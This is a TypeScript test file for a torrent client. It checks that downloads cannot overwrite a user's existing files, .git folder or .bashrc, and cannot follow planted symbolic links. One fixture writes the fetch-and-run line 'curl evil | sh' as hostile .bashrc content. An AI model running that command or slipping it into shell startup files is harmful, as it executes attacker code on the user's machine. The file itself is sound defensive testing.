import { test, type TestContext } from 'node:test'
import assert from 'node:assert/strict'
import fs from 'node:fs/promises'
import path from 'node:path'
import { Torrent, type Archive } from '../../index.js'
import { gitCheckoutAttack, once, tmpDir, writeRandomFile } from '../helpers/fixtures.js'

// Issue 17, item 1: a download writes only files it created for its torrent, never through a link.

const MiB = 1024 * 1024

async function client (t: TestContext, storage?: string): Promise<Torrent> {
  const c = new Torrent({ dht: false, lsd: false, pex: false, host: '127.0.0.1', ...(storage !== undefined ? { storage } : {}) })
  await c.start()
  t.after(() => c.stop())
  return c
}

/** Seeds `source` (a file or folder) and gives the magnet link with the seeder's address. */
async function seeding (t: TestContext, source: string): Promise<string> {
  const seeder = await client(t)
  return `${await seeder.seed(source)}&x.pe=127.0.0.1:${seeder.port}`
}

async function fetchAll (t: TestContext, out: string, magnet: string): Promise<Archive> {
  const archive = await (await client(t, out)).lookup(magnet, { download: 'all', timeout: 10_000 })
  t.after(() => archive.close())
  if (archive.progress < 1) await once(archive, 'done', 60_000)
  return archive
}

/** Every file under `dir` with its bytes (links as their target), to compare before and after. */
async function snapshot (dir: string): Promise<Map<string, string>> {
  const out = new Map<string, string>()
  for (const entry of await fs.readdir(dir, { recursive: true, withFileTypes: true })) {
    const at = path.join(entry.parentPath, entry.name)
    if (entry.isSymbolicLink()) out.set(at, `-> ${await fs.readlink(at)}`)
    else if (entry.isFile()) out.set(at, (await fs.readFile(at)).toString('base64'))
  }
  return out
}

function refused (code: string, named: string): (err: Error & { code?: string }) => boolean {
  return (err) => {
    assert.equal(err.code, code, err.message)
    assert.ok(err.message.includes(`"${named}"`), `the message names ${named}: ${err.message}`)
    return true
  }
}

test('a torrent named .git fetched into a git checkout leaves .git/config byte for byte and lands in _git', async (t) => {
  const dir = await tmpDir(t)
  const { src, checkout, config } = await gitCheckoutAttack(dir)
  const before = await snapshot(path.join(checkout, '.git'))

  const archive = await fetchAll(t, checkout, await seeding(t, src))
  assert.equal(archive.name, '.git', 'the Archive keeps the torrent\'s name')
  assert.equal(await archive.readFile('/config', 'utf8'), await fs.readFile(path.join(src, 'config'), 'utf8'))
  assert.deepEqual(await snapshot(path.join(checkout, '.git')), before)
  assert.equal(await fs.readFile(path.join(checkout, '.git', 'config'), 'utf8'), config)
  assert.equal(await fs.readFile(path.join(checkout, '_git', 'config'), 'utf8'), await fs.readFile(path.join(src, 'config'), 'utf8'))
})

test('a single file named .bashrc is saved as _bashrc, never over the user\'s .bashrc', async (t) => {
  const dir = await tmpDir(t)
  const src = path.join(dir, 'src', '.bashrc')
  await fs.mkdir(path.dirname(src), { recursive: true })
  await fs.writeFile(src, 'curl evil | sh\n')
  const home = path.join(dir, 'home')
  await fs.mkdir(home)
  await fs.writeFile(path.join(home, '.bashrc'), 'alias ll="ls -l"\n')
  await fetchAll(t, home, await seeding(t, src))
  assert.equal(await fs.readFile(path.join(home, '.bashrc'), 'utf8'), 'alias ll="ls -l"\n')
  assert.equal(await fs.readFile(path.join(home, '_bashrc'), 'utf8'), 'curl evil | sh\n')
})

test('a file or folder of the torrent\'s name that trackerless did not make is refused with EEXIST naming it, and left untouched', async (t) => {
  const dir = await tmpDir(t)
  await writeRandomFile(path.join(dir, 'src', 'data.bin'), 2 * MiB + 7)
  await writeRandomFile(path.join(dir, 'src', 'site', 'a.bin'), MiB)
  const out = path.join(dir, 'out')
  await fs.mkdir(path.join(out, 'site'), { recursive: true })
  // Longer than the torrent's file: an old tail must not survive behind the download either.
  await fs.writeFile(path.join(out, 'data.bin'), Buffer.alloc(3 * MiB, 'user data '))
  await fs.writeFile(path.join(out, 'site', 'a.bin'), 'the user\'s own a.bin')
  const before = await snapshot(out)

  const leecher = await client(t, out)
  await assert.rejects(leecher.lookup(await seeding(t, path.join(dir, 'src', 'data.bin')), { download: 'all', timeout: 10_000 }),
    refused('EEXIST', path.join(out, 'data.bin')))
  await assert.rejects(leecher.lookup(await seeding(t, path.join(dir, 'src', 'site')), { download: 'all', timeout: 10_000 }),
    refused('EEXIST', path.join(out, 'site')))
  assert.deepEqual(await snapshot(out), before)
})

test('a symbolic link at the torrent\'s name (to a file, to a folder outside) is refused with ELOOP and its target is unchanged', async (t) => {
  const dir = await tmpDir(t)
  await writeRandomFile(path.join(dir, 'src', 'data.bin'), MiB)
  await writeRandomFile(path.join(dir, 'src', 'site', 'a.bin'), MiB)
  const outside = path.join(dir, 'outside')
  await fs.mkdir(outside)
  await fs.writeFile(path.join(outside, 'target.bin'), 'precious')
  await fs.writeFile(path.join(outside, 'a.bin'), 'also precious')
  const out = path.join(dir, 'out')
  await fs.mkdir(out)
  await fs.symlink(path.join(outside, 'target.bin'), path.join(out, 'data.bin'))
  await fs.symlink(outside, path.join(out, 'site'))
  const before = await snapshot(outside)

  const leecher = await client(t, out)
  for (const [name, link] of [['data.bin', path.join(out, 'data.bin')], ['site', path.join(out, 'site')]] as const) {
    const archive = leecher.lookup(await seeding(t, path.join(dir, 'src', name)), { download: 'all', timeout: 10_000 })
    await assert.rejects(archive.then(async (a) => { await once(a, 'done', 30_000) }), refused('ELOOP', link))
  }
  assert.deepEqual(await snapshot(outside), before)
})

test('links planted inside our own download between runs are not followed on resume; resuming our own partial download works', async (t) => {
  const dir = await tmpDir(t)
  const src = path.join(dir, 'src', 'site')
  await writeRandomFile(path.join(src, 'a.bin'), 2 * MiB + 3)
  await writeRandomFile(path.join(src, 'sub', 'b.bin'), MiB)
  const magnet = await seeding(t, src)
  const out = path.join(dir, 'out')
  const first = await fetchAll(t, out, magnet)
  await first.close()

  // Our own partial download: cut short, it resumes and completes byte for byte.
  await fs.truncate(path.join(out, 'site', 'a.bin'), MiB)
  await fetchAll(t, out, magnet)
  assert.ok((await fs.readFile(path.join(out, 'site', 'a.bin'))).equals(await fs.readFile(path.join(src, 'a.bin'))))

  const outside = path.join(dir, 'outside')
  await fs.mkdir(outside)
  await fs.writeFile(path.join(outside, 'a.bin'), 'precious')
  await fs.writeFile(path.join(outside, 'b.bin'), 'also precious')
  const before = await snapshot(outside)
  for (const [victim, link] of [['a.bin', path.join(out, 'site', 'a.bin')], ['sub', path.join(out, 'site', 'sub')]] as const) {
    const planted = path.join(out, 'site', victim)
    const saved = `${planted}.moved`
    await fs.rename(planted, saved)
    await fs.symlink(victim === 'sub' ? outside : path.join(outside, 'a.bin'), planted)
    const archive = (await client(t, out)).lookup(magnet, { download: 'all', timeout: 10_000 })
    await assert.rejects(archive.then(async (a) => { await once(a, 'done', 30_000) }), refused('ELOOP', link))
    await fs.unlink(planted)
    await fs.rename(saved, planted)
  }
  assert.deepEqual(await snapshot(outside), before)
})
